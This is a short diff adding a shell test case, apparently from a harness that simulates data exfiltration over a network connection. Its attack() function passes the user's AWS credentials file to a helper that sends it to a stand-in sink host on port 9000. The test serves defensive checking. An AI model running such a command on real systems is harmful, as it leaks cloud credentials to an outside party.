@@ -1,0 +1,3 @@
+# SPDX-License-Identifier: Apache-2.0
+TITLE="connect first, read later, urgent data on the old connection"
+attack() { "$PROVOKE/late" urgent "$HOME/.aws/credentials" "$SINK4" 9000; }
